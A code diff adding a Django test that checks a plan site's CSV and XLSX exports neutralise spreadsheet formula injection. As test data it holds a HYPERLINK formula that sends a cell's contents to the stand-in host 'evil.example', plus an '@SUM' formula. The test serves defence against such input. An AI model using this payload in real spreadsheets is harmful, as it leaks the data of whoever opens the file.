@@ -1,3 +1,4 @@
+import csv
 import datetime
 import io
 
@@ -216,3 +217,30 @@ def test_plan_page_query_count_is_bounded(client, plan, django_assert_num_querie
     assert response.status_code == 200
     page = response.content.decode()
     assert "Seutustrategiatyö" in page and all(f"T{n}" in page for n in range(3, 12))
+
+
+@pytest.mark.django_db
+def test_plan_exports_run_no_formulas(client, plan):
+    payload = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    services.define_measure(
+        plan["goal"], "1.3", actor=System("test"), title_fi=payload, responsible=[], business=True
+    )
+    services.define_indicator(
+        "strategies",
+        actor=System("test"),
+        source="@SUM(1+1)",
+        baseline=-2,
+        measures=[plan["measure"]],
+    )
+    csv_rows = list(
+        csv.reader(io.StringIO(client.get("/plan/2007-2009/plan.csv").content.decode("utf-8-sig")))
+    )
+    cells = [cell for row in csv_rows for cell in row]
+    assert "'" + payload in cells and "'@SUM(1+1)" in cells
+    assert payload not in cells and "-2.0" in cells  # the baseline, a number
+    book = load_workbook(io.BytesIO(client.get("/plan/2007-2009/plan.xlsx").content))
+    xlsx_cells = [cell for row in book.active.iter_rows() for cell in row]
+    formula = next(c for c in xlsx_cells if c.value == payload)
+    assert formula.data_type == "s" and formula.quotePrefix
+    assert not any(c.data_type == "f" for c in xlsx_cells)
+    assert any(c.value == -2 and c.data_type == "n" for c in xlsx_cells)
